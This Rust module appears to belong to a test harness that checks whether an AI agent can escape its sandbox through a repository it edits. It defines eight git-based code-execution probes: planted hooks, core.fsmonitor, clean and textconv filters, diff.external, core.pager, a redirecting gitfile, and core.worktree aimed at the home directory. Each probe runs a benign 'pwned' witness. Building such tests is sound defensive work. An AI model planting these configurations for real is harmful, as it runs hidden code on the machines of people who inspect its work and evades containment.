//! What an assistant plants for the git of whoever looks at its tree.

use super::AttackError;
use super::ground::{AT_HOME, Ground};
use super::probe::{self, Probe, Win};
use super::row::Row;

/// Begins every script: `$d` is the shared folder of git, `$p` a program that leaves the witness.
macro_rules! planted {
    ($rest:literal) => {
        concat!(
            "d=$(git rev-parse --path-format=absolute --git-common-dir); p=$d/pwn; ",
            "printf '#!/bin/sh\\necho pwned > {witness}\\ncat 2>/dev/null\\n' > $p; chmod +x $p\n",
            $rest
        )
    };
}

const PROBES: [Probe; 8] = [
    Probe {
        attack: "hooks",
        script: planted!("mkdir -p $d/hooks; cp $p $d/hooks/post-checkout"),
        after: "git checkout -q HEAD < /dev/null",
        wins: Win::Witness,
    },
    Probe {
        attack: "core.fsmonitor",
        script: planted!("git config core.fsmonitor $p"),
        after: "git status < /dev/null",
        wins: Win::Witness,
    },
    Probe {
        attack: "clean filter",
        script: planted!(
            "git config filter.evil.clean $p; echo '* filter=evil' > .gitattributes; echo x >> a.txt"
        ),
        after: "git add -A",
        wins: Win::Witness,
    },
    Probe {
        attack: "diff.external",
        script: planted!("git config diff.external $p; echo x >> a.txt"),
        after: "git diff < /dev/null",
        wins: Win::Witness,
    },
    Probe {
        attack: "textconv",
        script: planted!(
            "git config diff.evil.textconv $p; echo '*.txt diff=evil' > .gitattributes; echo x >> a.txt"
        ),
        after: "git diff < /dev/null",
        wins: Win::Witness,
    },
    Probe {
        attack: "core.pager",
        script: planted!("git config core.pager $p"),
        after: "TERM=dumb timeout 10 script -qec 'git log -1' /dev/null < /dev/null",
        wins: Win::Witness,
    },
    Probe {
        attack: "a gitfile that leads to a repository of its own",
        script: planted!(
            "git init -q evil; git -C evil config core.fsmonitor $p; rm -rf .git; echo 'gitdir: evil/.git' > .git"
        ),
        after: "git status < /dev/null",
        wins: Win::Witness,
    },
    Probe {
        attack: "core.worktree that leads home",
        script: "git init -q evil; git -C evil config core.worktree {home}; rm -rf .git; echo 'gitdir: evil/.git' > .git",
        after: "git add -A && git diff --cached",
        wins: Win::Said(AT_HOME),
    },
];

pub(super) fn rows(ground: &Ground) -> Result<Vec<Row>, AttackError> {
    probe::rows(ground, "git", if ground.quick { &PROBES[..2] } else { &PROBES })
}
